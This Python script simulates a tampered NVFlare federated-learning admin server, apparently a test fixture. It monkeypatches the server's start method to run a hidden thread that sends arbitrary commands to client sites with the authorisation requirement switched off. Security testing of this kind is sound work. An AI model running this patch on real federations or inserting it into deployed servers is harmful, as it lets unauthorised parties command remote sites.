"""A server that was tampered with: it sends the request in ``order.json`` to a site's parent process, without
permission.

``python hostile_server.py KIT FOLDER``: started like an honest one; an order is ``{"site": ..., "topic": ..., "body":
...}``, the answer goes to ``reply.json``.
"""

from __future__ import annotations

import json
import sys
import threading
import time
from pathlib import Path
from typing import Any

from nvflare.private.admin_defs import Message
from nvflare.private.defs import RequestHeader
from nvflare.private.fed.server.admin import FedAdminServer

from isthmus.deploy import parent_process

FOLDER = Path(sys.argv[2])
START = FedAdminServer.start


def send_orders(server: Any) -> None:
    while True:
        time.sleep(0.1)
        path = FOLDER / "order.json"
        if not path.exists():
            continue
        order = json.loads(path.read_text())
        token = next((token for token, client in server.clients.items() if client.name == order["site"]), None)
        if token is None:
            continue
        path.unlink()
        message = Message(topic=order["topic"], body=order["body"])
        message.set_header(RequestHeader.REQUIRE_AUTHZ, "false")
        reply = server.send_request_to_client(message, token, timeout_secs=10.0)
        text = "" if reply is None or reply.reply is None else str(reply.reply.body)
        (FOLDER / ".reply.json").write_text(json.dumps({"text": text}))
        (FOLDER / ".reply.json").rename(FOLDER / "reply.json")


def start(self: Any) -> Any:
    threading.Thread(target=send_orders, args=(self,), daemon=True).start()
    return START(self)


FedAdminServer.start = start
parent_process.main(sys.argv[1])
